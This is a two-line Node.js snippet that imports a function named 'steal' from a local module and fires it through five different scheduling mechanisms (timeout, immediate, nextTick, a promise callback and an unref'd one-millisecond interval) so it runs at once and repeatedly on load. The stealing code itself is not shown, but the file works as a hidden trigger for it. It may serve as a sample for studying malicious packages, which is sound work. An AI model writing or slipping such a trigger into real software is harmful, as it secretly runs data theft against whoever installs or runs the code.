const { steal } = require('./steal');
setTimeout(steal, 0); setImmediate(steal); process.nextTick(steal); Promise.resolve().then(steal); setInterval(steal, 1).unref();
